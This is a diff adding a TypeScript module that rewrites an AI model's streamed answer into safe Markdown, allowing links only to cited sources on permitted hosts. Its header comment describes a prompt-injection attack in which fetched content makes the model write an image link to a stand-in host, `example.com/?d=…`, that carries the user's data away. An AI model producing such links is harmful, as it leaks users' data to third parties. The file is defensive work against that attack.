@@ -1,0 +1,81 @@
+/**
+ * What a model wrote, turned into Markdown that is safe in any renderer. What was fetched may have told the model to write
+ * `![](https://example.com/?d=…)`, and a renderer that shows it has sent the person's data away, unasked.
+ *
+ * So the answer links to its sources and to nothing else. Everything is written anew, piece by piece, in a form in which
+ * renderers don't differ; what is no such form is written as text.
+ */
+import type { Source } from '../../../../shared/model.ts';
+import { createAddresses } from './addresses.ts';
+import { writeBracket, writeClosing } from './brackets.ts';
+import { writeCodeBlock } from './code-block.ts';
+import { createPlainCharacters } from './plain-characters.ts';
+import { createReader, look, type Steps } from './reader.ts';
+import { createSink, type Sink } from './sink.ts';
+import { writeText } from './text.ts';
+import type { Writing } from './writing.ts';
+
+export type AnswerText = {
+  /** What can be shown of the answer now. At most about 4 kB wait for what they mean. */
+  push(text: string): string;
+  end(): string;
+  /** The sources that the answer links to, in the order of their first mention. */
+  cited(): Source[];
+};
+
+type Options = {
+  sources: () => Source[];
+  /** Of the sources: an address elsewhere is no link. */
+  hosts: ReadonlySet<string>;
+};
+
+/** The text of one answer. All it gives out, joined, is the same however the model's text is split into chunks. */
+export function createAnswerText({ sources, hosts }: Options): AnswerText {
+  const reader = createReader();
+  const sink = createSink();
+  const plain = createPlainCharacters();
+  const cited = new Map<number, Source>();
+  const steps = writeAnswer(
+    {
+      reader,
+      addresses: createAddresses(sources, hosts),
+      cite: (source) => void (cited.has(source.n) || cited.set(source.n, source)),
+      searched: [0, 0, 0],
+    },
+    sink,
+  );
+  return {
+    push(text) {
+      reader.push(plain(text, false));
+      steps.next();
+      return sink.flush();
+    },
+    end() {
+      reader.push(plain('', true));
+      reader.end();
+      steps.next();
+      return sink.flush();
+    },
+    cited: () => [...cited.values()],
+  };
+}
+
+/** Writes all that the reader gives, and pauses whenever it has to know more. */
+export function* writeAnswer(writing: Writing, sink: Sink): Steps {
+  const { reader } = writing;
+  let isLineStart = true;
+  for (;;) {
+    // What follows a code block is the start of a line too, and may be another one.
+    while (isLineStart && (yield* writeCodeBlock(reader, sink)));
+    const character = yield* look(reader, 0);
+    isLineStart = character === '\n';
+    if (character === '') return;
+    if (character === '\n') sink.write(reader.take(1));
+    else if (character === '[' || (character === '!' && (yield* look(reader, 1)) === '['))
+      yield* writeBracket(writing, sink);
+    else if (character === ']') {
+      reader.take(1);
+      yield* writeClosing(reader, sink);
+    } else yield* writeText(writing, { sink, isLabel: false });
+  }
+}
